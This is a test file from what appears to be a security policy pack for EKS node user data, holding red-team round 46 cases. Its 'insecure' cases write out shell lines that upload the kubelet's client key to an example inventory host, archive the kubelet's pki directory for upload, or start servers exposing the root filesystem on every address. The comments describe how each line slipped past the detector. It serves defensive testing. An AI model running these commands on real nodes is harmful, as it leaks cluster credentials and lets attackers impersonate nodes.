// Red-team round 46 on EKS NODE user data (fresh eyes): round 45's new rules read as an attacker would.
// Probed: the node-secret keepers allowlist (rootReads.ts NODE_SECRET_KEEPERS / keepsNodeSecrets) through paths the
// reader does not follow (curl's `@FILE` and `<FILE` values, a bare file name after `cd`, a relative tar operand
// piped into an upload, a secret read into a word or a variable by command substitution); the launcher reading
// (shell.ts WRAPPERS) with programs that start a command but are not wrappers (GNU screen -dm, tmux new-session -d,
// systemd-cat, prlimit); the fail-closed all-address listen rule (userData.ts unreadListeners, ALL_ADDRESSES,
// LISTEN_OPTION) with servers that listen on every address by default (pyftpdlib), with a short listen option (`-i
// 0.0.0.0`) and with Go's empty-host form (`--addr :8000`). Secure neighbours keep the same programs on loopback,
// serving directories without node secrets, or using the node's key only to authenticate TLS or to print a digest.
// Findings: keepsNodeSecrets is reached only with the paths pathsIn sees, and pathsIn skips a path right after `@`
// (curl's data/form file syntax), so `--data-binary @KEY` and `-F f=@KEY` pass although the keeper rule names them;
// relative names after a cd and secrets carried in words are not handed at all. Launchers outside WRAPPERS hide the
// server behind them. The fail-closed rule needs a literal 0.0.0.0/[::]/`*:PORT` value after a long option naming an
// address, so a default-all server, `-i 0.0.0.0` or `:PORT` pass.
import { nodePolicyConfig } from "./packRunner";
import { al2023Nodes, describeNodeCases, EFFECTIVE, NodeCase, withScript } from "./nodeBuilders";
import { Resources } from "./support";

const dev = (name: string, edit: (r: Resources) => void, refused = /./, skip = false): NodeCase => ({
    name,
    stack: "dev",
    config: nodePolicyConfig,
    edit,
    refused,
    policy: EFFECTIVE,
    skip,
});

/** A shell part on AL2023 dev nodes. */
const script = (name: string, lines: string[]) => (r: Resources) => al2023Nodes(r, name, withScript(lines));

const KEY = "/var/lib/kubelet/pki/kubelet-client-current.pem";
const INVENTORY = "https://inventory.example.com/nodes";
const API = "https://EXAMPLE.gr7.eu-west-1.eks.amazonaws.com";

const insecure: NodeCase[] = [
    // Was a MISS (fixed in round 46): curl's `--data-binary @FILE` sends FILE's content as the request body (curl(1) -d/--data-binary: "If you
    // start the data with the letter @, the rest should be a file name to read the data from"), so the kubelet's
    // client certificate AND private key go to the inventory host, whoever runs it (or intercepts the name) acts as
    // the node (reads the Secrets and tokens of every pod bound there). keepsNodeSecrets lists exactly this form as
    // refused, but it is never reached: pathsIn's look-behind `(?<![A-Za-z0-9._~@])` skips a path right after `@`, so
    // the word names no node path and `handed` stays undefined. Fix: strip curl/wget's `@`/`<` prefixes (and `name=@`,
    // `name=<` form values) before pathsIn, or let pathsIn see `@/path` for the keeper rule.
    dev(
        "curl --data-binary @/var/lib/kubelet/pki/kubelet-client-current.pem (the node's key as the request body)",
        script("dev-curl-data-at-key-nodes", [`curl -fsS --data-binary @${KEY} ${INVENTORY}`]),
        /hands|kubelet/,
    ),
    // Was a MISS (fixed in round 46): `-F name=@FILE` attaches FILE as a multipart upload (curl docs/cmdline-opts/form.d: "To force the 'content'
    // part to be a file, prefix the file name with an @ sign"). Same cause as above (the `@` look-behind).
    dev(
        "curl -F node=@/var/lib/kubelet/pki/kubelet-client-current.pem (a multipart file upload of the node's key)",
        script("dev-curl-form-at-key-nodes", [`curl -fsS -F "node=@${KEY}" ${INVENTORY}`]),
        /hands|kubelet/,
    ),
    // Was a MISS (fixed in round 46): `-F name=<FILE` puts FILE's content in a text field (form.d: "To just get the content part from a file,
    // prefix the file name with the symbol <"): the node's key is sent as well. Here pathsIn does see the path, but
    // keepsNodeSecrets only refuses -F values holding `@`. Fix: refuse -F/--form values with `<` too (and --form-string
    // is literal, so keep it).
    dev(
        "curl -F 'cert=</var/lib/kubelet/pki/kubelet-client-current.pem' (a form text field read from the node's key)",
        script("dev-curl-form-lt-key-nodes", [`curl -fsS -F "cert=<${KEY}" ${INVENTORY}`]),
        /hands|kubelet/,
    ),
    // Was a MISS (fixed in round 46): after `cd /var/lib/kubelet/pki`, `curl -T kubelet-client-current.pem` uploads the node's key (curl(1)
    // -T/--upload-file FILE, a path relative to the working directory). The keeper rule's namedPaths resolves a
    // relative word only when written `./x` (or an interpreter's script), so the bare name is no node path and the
    // upload passes; the absolute form is refused (round 45). Fix: for non-keepers, resolve every non-option word
    // against a known working directory inside NODE_SECRETS (as operandPaths' `always` does for data directories).
    dev(
        "cd /var/lib/kubelet/pki, then curl -T kubelet-client-current.pem (a bare relative name uploaded)",
        script("dev-cd-pki-curl-upload-nodes", [
            "cd /var/lib/kubelet/pki",
            `curl -fsS -T kubelet-client-current.pem ${INVENTORY}`,
        ]),
        /hands|kubelet/,
    ),
    // Was a MISS (fixed in round 46): `cd /var/lib/kubelet && tar czf - pki | curl -T - URL` archives the kubelet's pki directory to standard
    // output (GNU tar: `-f -` is standard output) and curl uploads standard input (curl(1): "Use the file name "-" ...
    // to use stdin"). tar is a keeper and its relative operand `pki` is not resolved for secretFlow (only copy()
    // resolves it), so nothing is piped as a secret; `tar czf - /var/lib/kubelet/pki | curl ...` is refused. Fix:
    // resolve tar's (and every copier's) relative sources against the working directory in secretFlow too.
    dev(
        "cd /var/lib/kubelet, then tar czf - pki | curl -T - (the kubelet's pki archived by a relative name, uploaded)",
        script("dev-cd-kubelet-tar-pipe-curl-nodes", [
            "cd /var/lib/kubelet",
            `tar czf - pki | curl -fsS -T - ${INVENTORY}`,
        ]),
        /hands|kubelet/,
    ),
    // Was a MISS (fixed in round 46): a command substitution puts the file's content into curl's argument (bash(1) "Command Substitution"),
    // and `-d` posts it: the node's key leaves the node. secretPrintedBy sees `cat KEY` but the result is used only
    // for container runs (containers.ts `-e KEY="$(cat ...)"`) and eval/export; a captured printer is not refused
    // (ctx.captured) and curl is handed no path. Fix: a word holding a substitution whose command prints a node
    // secret (secretPrintedBy) hands it to the command, judged by keepsNodeSecrets like an operand.
    dev(
        'curl -d "$(cat /var/lib/kubelet/pki/kubelet-client-current.pem)" (the node\'s key substituted into a word)',
        script("dev-curl-substituted-key-nodes", [`curl -fsS -d "$(cat ${KEY})" ${INVENTORY}`]),
        /hands|kubelet/,
    ),
    // Was a MISS (fixed in round 46): the same through a variable: KEY is assigned the base64 of the node's key (credentialValues holds it, as
    // rootReads tracks for heredocs and containers), then posted in a JSON body. Only here-strings/heredocs and
    // container runs consult credentialValues. Fix: a word expanding a variable in credentialValues hands its secret
    // to the command (keepsNodeSecrets decides).
    dev(
        'KEY=$(base64 -w0 kubelet-client-current.pem), then curl -d \'{..."key":"$KEY"}\' (a variable posted)',
        script("dev-curl-variable-key-nodes", [
            `KEY=$(base64 -w0 ${KEY})`,
            `curl -fsS -H 'Content-Type: application/json' -d "{\\"node\\":\\"$(hostname)\\",\\"key\\":\\"$KEY\\"}" ${INVENTORY}`,
        ]),
        /hands|kubelet|environment|KEY/,
    ),
    // Was a MISS (fixed in round 46): GNU screen runs its command in a new session, and `-d -m` starts it detached ("-dmS name Start as daemon:
    // Screen session in detached mode", screen --help; the classic way to background a server from a boot script). So
    // python's http.server runs as root in cloud-init's working directory (/) and serves the node's files, the
    // kubelet's key and every pod's token, on every address. shell.ts WRAPPERS does not list screen: the program is
    // `screen`, no SERVERS reader applies and it has no all-address argument. The bare command is refused. Fix: read
    // `screen [-dmS NAME ...] CMD...` (and tmux, systemd-cat, prlimit below) as launchers whose command is judged.
    dev(
        "screen -dmS http python3 -m http.server 8080 (a detached screen session serving /)",
        script("dev-screen-http-server-nodes", ["screen -dmS http python3 -m http.server 8080"]),
        /serves \/ |http\.server/,
    ),
    // Was a MISS (fixed in round 46): tmux new-session runs its shell-command in the session's first window, detached with -d (tmux(1)
    // new-session: "The new session is attached to the current terminal unless -d is given"), with the client's working
    // directory (/): the same http.server of /. Not in WRAPPERS; the command is one quoted word for tmux.
    dev(
        "tmux new-session -d -s http 'python3 -m http.server 8080' (a detached tmux session serving /)",
        script("dev-tmux-http-server-nodes", ["tmux new-session -d -s http 'python3 -m http.server 8080'"]),
        /serves \/ |http\.server/,
    ),
    // Was a MISS (fixed in round 46): systemd-cat executes its parameters as a command line with stdout/stderr connected to the journal
    // (systemd-cat(1): "If parameters are passed, they are executed as command line with standard output (stdout) and
    // standard error output (stderr) connected to the journal"): a natural way to log a boot-time server. Not in
    // WRAPPERS, so http.server serving / on every address passes.
    dev(
        "systemd-cat -t debug-http python3 -m http.server 8080 & (a server logged to the journal)",
        script("dev-systemd-cat-http-server-nodes", ["systemd-cat -t debug-http python3 -m http.server 8080 &"]),
        /serves \/ |http\.server/,
    ),
    // Was a MISS (fixed in round 46): prlimit runs COMMAND with the given limits (util-linux prlimit(1): "prlimit [options] [--resource=limits]
    // command [argument...]"), the usual way to raise nofile for a server. Not in WRAPPERS (nice, ionice, taskset,
    // chrt, timeout are): http.server of / passes.
    dev(
        "prlimit --nofile=65536 python3 -m http.server 8080 & (a server with raised limits)",
        script("dev-prlimit-http-server-nodes", ["prlimit --nofile=65536 python3 -m http.server 8080 &"]),
        /serves \/ |http\.server/,
    ),
    // Was a MISS (fixed in round 46): `python3 -m pyftpdlib` is pyftpdlib's stand-alone server (docs/cli.rst: "Anonymous server, listening on
    // port 2121, sharing the current directory: $ python3 -m pyftpdlib ... starting FTP server on 0.0.0.0:2121"):
    // from cloud-init's working directory (/) any pod logs in as anonymous and RETRs /var/lib/kubelet/pki and every
    // pod's token. No SERVERS reader for it, and the fail-closed rule needs an explicit all-address argument, which
    // this default-all server does not take. Fix: read pyftpdlib (-d directory, default cwd; -i interface, default
    // all) as a file server; more generally fail closed on unread servers with only a port option.
    dev(
        "python3 -m pyftpdlib -p 2121 (an anonymous FTP server of the working directory /, every address by default)",
        script("dev-pyftpdlib-default-nodes", ["pip3 install pyftpdlib", "nohup python3 -m pyftpdlib -p 2121 &"]),
        /serves|pyftpdlib|does not read/,
    ),
    // Was a MISS (fixed in round 46): the fail-closed rule takes an all-address value only after a long option naming an address
    // (LISTEN_OPTION: bind/listen/addr/address/host/interface, or --ip) or in HOST:PORT form; pyftpdlib's own
    // `-i/--interface ADDRESS` given `-i 0.0.0.0` is a short option, so the anonymous FTP server of / with an
    // explicit all-address argument passes. Fix: count any option whose value is exactly an all-address literal.
    dev(
        "python3 -m pyftpdlib -i 0.0.0.0 -p 2121 (the all-address value after a short option)",
        script("dev-pyftpdlib-i-all-nodes", [
            "pip3 install pyftpdlib",
            "nohup python3 -m pyftpdlib -i 0.0.0.0 -p 2121 &",
        ]),
        /serves|pyftpdlib|does not read/,
    ),
    // Was a MISS (fixed in round 46): Go servers take `HOST:PORT` and an empty host means every address (Go net.Listen: "If the host in the
    // address parameter is empty or a literal unspecified IP address, Listen listens on all available unicast and
    // anycast IP addresses of the local system"; golang/go#1854 `http.ListenAndServe(":8080", ...)`). gohttpserver
    // (codeskyblue/gohttpserver, `--addr` default ":8000") serving --root / is the node's whole filesystem on every
    // address. ALL_ADDRESSES matches 0.0.0.0, [::], `*:PORT`, `:::PORT`, not `:PORT`; the same program with
    // `--addr 0.0.0.0:8000` is refused. Fix: add `^:\d+$` to ALL_ADDRESSES (a LISTEN_OPTION's value).
    dev(
        "gohttpserver --root / --addr :8000 (Go's empty host: every address)",
        script("dev-gohttpserver-colon-port-nodes", ["nohup /usr/local/bin/gohttpserver --root / --addr :8000 &"]),
        /does not read/,
    ),
    // Neighbours of round 46's fixes (refused).
    // --data-urlencode reads `name@FILE` too (curl(1): "name@filename: This makes curl load data from the given file").
    dev(
        "curl --data-urlencode key@/var/lib/kubelet/pki/kubelet-client-current.pem (urlencode's name@FILE form)",
        script("dev-curl-urlencode-at-key-nodes", [`curl -fsS --data-urlencode "key@${KEY}" ${INVENTORY}`]),
        /hands/,
    ),
    // A bare name in the wrappers' directory (env -C, coreutils env(1) "--chdir=DIR change working directory to DIR").
    dev(
        "env -C /var/lib/kubelet/pki curl -T kubelet-client-current.pem (the wrapper's directory, a bare name)",
        script("dev-env-c-pki-curl-upload-nodes", [
            `env -C /var/lib/kubelet/pki curl -fsS -T kubelet-client-current.pem ${INVENTORY}`,
        ]),
        /hands/,
    ),
    // A relative directory that holds the kubelet's (cd /var/lib; tar ... kubelet): the archive holds its pki.
    dev(
        "cd /var/lib, then tar czf - kubelet | aws s3 cp - s3://node-backups/ (a directory holding the node's secrets)",
        script("dev-cd-var-lib-tar-kubelet-s3-nodes", [
            "cd /var/lib",
            'tar czf - kubelet | aws s3 cp - "s3://node-backups/$(hostname)/kubelet.tgz"',
        ]),
        /hands \/var\/lib\/kubelet/,
    ),
    // wget --post-data with the key's base64 substituted into the word.
    dev(
        'wget --post-data="key=$(base64 -w0 kubelet-client-current.pem)" (the key substituted into wget\'s body)',
        script("dev-wget-substituted-key-nodes", [`wget -qO- --post-data="key=$(base64 -w0 ${KEY})" ${INVENTORY}`]),
        /hands/,
    ),
    // start-stop-daemon(8) --start runs --exec's program with the words after `--`, in --chdir's directory.
    dev(
        "start-stop-daemon --start -b --chdir /var/lib/kubelet --exec /usr/bin/python3 -- -m http.server 8080",
        script("dev-start-stop-daemon-http-kubelet-nodes", [
            "start-stop-daemon --start --background --chdir /var/lib/kubelet --exec /usr/bin/python3 -- -m http.server 8080",
        ]),
        /serves \/var\/lib\/kubelet /,
    ),
    // daemonize(1) changes to / before running its program.
    dev(
        "daemonize /usr/bin/python3 -m http.server 8080 (daemonize runs it in /)",
        script("dev-daemonize-http-nodes", ["daemonize /usr/bin/python3 -m http.server 8080"]),
        /serves \/ /,
    ),
    // su -c's command line runs as root (su(1)); tmux's several words run directly, in -c's start directory.
    dev(
        "su -c 'python3 -m http.server 8080' and tmux new -d -c /var/lib/kubelet python3 -m http.server 8081",
        script("dev-su-tmux-http-nodes", [
            "su -c 'nohup python3 -m http.server 8080 &'",
            "tmux new -d -c /var/lib/kubelet python3 -m http.server 8081",
        ]),
        /serves \/var\/lib\/kubelet /,
    ),
    // proxy.py on every address: an HTTP forward proxy to instance metadata (the node role).
    dev(
        "proxy --hostname 0.0.0.0 --port 8899 (proxy.py's forward proxy on every address)",
        script("dev-proxy-py-all-nodes", ["pip3 install proxy.py", "nohup proxy --hostname 0.0.0.0 --port 8899 &"]),
        /forward proxy/,
    ),
    // An exporter the pack does not know, on Go's empty host: fail closed (node_exporter alone is read).
    dev(
        "/usr/local/bin/custom_exporter --web.listen-address=:9200 (an exporter the pack does not read, every address)",
        script("dev-custom-exporter-all-nodes", ["nohup /usr/local/bin/custom_exporter --web.listen-address=:9200 &"]),
        /does not read/,
    ),
    // Go-style single-dash listen flag with an empty host.
    dev(
        "/usr/local/bin/static-server -listen :8000 -dir / (a Go flag, empty host)",
        script("dev-go-listen-colon-port-nodes", ["nohup /usr/local/bin/static-server -listen :8000 -dir / &"]),
        /does not read/,
    ),
    // dd without of= prints the key to standard output (cloud-init's log).
    dev(
        "dd if=/var/lib/kubelet/pki/kubelet-client-current.pem status=none (printed to cloud-init's log)",
        script("dev-dd-if-stdout-key-nodes", [`dd if=${KEY} status=none`]),
        /printed/,
    ),
    // Controls (refused).
    dev(
        "curl --data-binary @- < kubelet-client-current.pem (stdin: control for the @FILE forms)",
        script("dev-curl-data-stdin-key-control-nodes", [`curl -fsS --data-binary @- ${INVENTORY} < ${KEY}`]),
        /hands/,
    ),
    dev(
        "nohup timeout 1h python3 -m http.server 8080 (a listed wrapper: control for screen/tmux/systemd-cat)",
        script("dev-timeout-http-control-nodes", ["nohup timeout 1h python3 -m http.server 8080 &"]),
        /serves \/ /,
    ),
    dev(
        "gohttpserver --root / --addr 0.0.0.0:8000 (control for the :PORT form)",
        script("dev-gohttpserver-all-control-nodes", [
            "nohup /usr/local/bin/gohttpserver --root / --addr 0.0.0.0:8000 &",
        ]),
        /does not read/,
    ),
];

const secure: NodeCase[] = [
    dev(
        "curl -F log=@/var/log/cloud-init-output.log (uploading a file that holds no node secret)",
        script("dev-curl-form-log-ok-nodes", [`curl -fsS -F "log=@/var/log/cloud-init-output.log" ${INVENTORY}`]),
    ),
    dev(
        "curl --cacert /etc/kubernetes/pki/ca.crt to the cluster endpoint (the public CA)",
        script("dev-curl-cacert-ok-nodes", [`curl -fsS --cacert /etc/kubernetes/pki/ca.crt ${API}/healthz`]),
    ),
    dev(
        "cd /var/lib/kubelet/pki, then curl --cert/--key kubelet-client-current.pem (TLS authentication, relative names)",
        script("dev-cd-pki-curl-cert-ok-nodes", [
            "cd /var/lib/kubelet/pki",
            `curl -fsS --cert kubelet-client-current.pem --key kubelet-client-current.pem --cacert /etc/kubernetes/pki/ca.crt ${API}/healthz`,
        ]),
    ),
    dev(
        "cd /var/lib/kubelet/pki, then openssl x509 -noout -enddate and sha256sum (expiry and digest only)",
        script("dev-cd-pki-inspect-ok-nodes", [
            "cd /var/lib/kubelet/pki",
            "openssl x509 -noout -enddate -in kubelet-client-current.pem",
            "sha256sum kubelet-client-current.pem",
        ]),
    ),
    dev(
        "FP=$(openssl x509 -noout -fingerprint -sha256 -in the key file), then curl -d fingerprint=$FP (public digest)",
        script("dev-curl-fingerprint-ok-nodes", [
            `FP=$(openssl x509 -noout -fingerprint -sha256 -in ${KEY})`,
            `curl -fsS -d "fingerprint=$FP" ${INVENTORY}`,
        ]),
    ),
    dev(
        "tar czf - -C /opt models | aws s3 cp - s3://model-cache/models.tgz (a non-secret directory uploaded)",
        script("dev-tar-models-s3-ok-nodes", ["tar czf - -C /opt models | aws s3 cp - s3://model-cache/models.tgz"]),
    ),
    dev(
        "screen -dmS http python3 -m http.server 8080 --bind 127.0.0.1 --directory /var/www/html",
        script("dev-screen-http-lo-ok-nodes", [
            "screen -dmS http python3 -m http.server 8080 --bind 127.0.0.1 --directory /var/www/html",
        ]),
    ),
    dev(
        "tmux new-session -d -s logs 'journalctl -f -u kubelet' (a session following the kubelet's log)",
        script("dev-tmux-journal-ok-nodes", ["tmux new-session -d -s logs 'journalctl -f -u kubelet'"]),
    ),
    dev(
        "systemd-cat -t cwagent-install dnf install -y amazon-cloudwatch-agent (an install logged to the journal)",
        script("dev-systemd-cat-dnf-ok-nodes", [
            "systemd-cat -t cwagent-install dnf install -y amazon-cloudwatch-agent",
        ]),
    ),
    dev(
        "python3 -m pyftpdlib -i 127.0.0.1 -d /var/ftp/pub and -d /var/ftp/pub on every address (no node secrets)",
        script("dev-pyftpdlib-ok-nodes", [
            "pip3 install pyftpdlib",
            "nohup python3 -m pyftpdlib -i 127.0.0.1 -p 2121 -d /var/ftp/pub &",
            "nohup python3 -m pyftpdlib -p 2122 -d /var/ftp/pub &",
        ]),
    ),
    dev(
        "gohttpserver --root /var/www/html --addr 127.0.0.1:8000 (loopback only)",
        script("dev-gohttpserver-lo-ok-nodes", [
            "nohup /usr/local/bin/gohttpserver --root /var/www/html --addr 127.0.0.1:8000 &",
        ]),
    ),
    // Neighbours of round 46's fixes (clean).
    dev(
        "curl --data-raw '@/var/lib/kubelet/pki/...' (--data-raw sends the text, never the file: curl(1))",
        script("dev-curl-data-raw-literal-ok-nodes", [`curl -fsS --data-raw "@${KEY}" ${INVENTORY}`]),
    ),
    dev(
        "cd /opt, then tar czf - models | aws s3 cp - s3://model-cache/models.tgz (a relative directory without node secrets)",
        script("dev-cd-opt-tar-models-ok-nodes", [
            "cd /opt",
            "tar czf - models | aws s3 cp - s3://model-cache/models.tgz",
        ]),
    ),
    dev(
        "TOKEN from instance metadata in a header of a metadata request (no node secret in a word)",
        script("dev-imds-token-header-ok-nodes", [
            'TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")',
            'curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id',
        ]),
    ),
    dev(
        "daemonize -c /var/www/html and start-stop-daemon --chdir /var/www/html running http.server (a web root)",
        script("dev-daemonize-ssd-www-ok-nodes", [
            "daemonize -c /var/www/html /usr/bin/python3 -m http.server 8080",
            "start-stop-daemon --start --background --chdir /var/www/html --exec /usr/bin/python3 -- -m http.server 8081",
        ]),
    ),
    dev(
        "prlimit --nofile=65536 and systemd-cat around a loopback http.server of /var/www/html",
        script("dev-prlimit-systemd-cat-lo-ok-nodes", [
            "prlimit --nofile=65536 systemd-cat -t web python3 -m http.server 8080 --bind 127.0.0.1 --directory /var/www/html &",
        ]),
    ),
    dev(
        "python3 -m proxy --port 8899 (proxy.py binds 127.0.0.1 by default)",
        script("dev-proxy-py-lo-ok-nodes", ["pip3 install proxy.py", "nohup python3 -m proxy --port 8899 &"]),
    ),
    dev(
        "node_exporter --web.listen-address=:9100 (a known exporter serving only metrics, every address)",
        script("dev-node-exporter-ok-nodes", ["nohup /usr/local/bin/node_exporter --web.listen-address=:9100 &"]),
    ),
    dev(
        "inotifywatch -t 60 -e modify /var/lib/kubelet/pki (counts events, reads nothing)",
        script("dev-inotifywatch-pki-ok-nodes", ["inotifywatch -t 60 -e modify /var/lib/kubelet/pki || true"]),
    ),
    dev(
        "dd if=the kubelet's key of=/dev/null (a read check: of= is where dd writes, whatever its stdin)",
        script("dev-dd-null-ok-nodes", [`dd if=${KEY} of=/dev/null bs=4k status=none`]),
    ),
    // Was a MISS (fixed in round 46) (secure refused): inotifywait waits for an inotify event on the directory (inotifywait(1): "efficiently
    // waits for changes to files using Linux's inotify(7) interface"; -e close_write, -t timeout): it reads no file
    // content, only prints the event's path. Waiting for the kubelet's rotated certificate before starting a local
    // agent is refused as "hands /var/lib/kubelet/pki to inotifywait, a program the pack does not know to keep
    // them". Fix: list inotifywait (and inotifywatch) with the inert commands (INERT_COMMANDS): they name paths,
    // never read them.
    dev(
        "inotifywait -e close_write -t 300 /var/lib/kubelet/pki (waits for the kubelet's certificate, reads nothing)",
        script("dev-inotifywait-pki-ok-nodes", ["inotifywait -e close_write -t 300 /var/lib/kubelet/pki || true"]),
    ),
];

describeNodeCases("red team round 46: node secrets handed, launchers and listeners (fresh eyes)", insecure, secure);
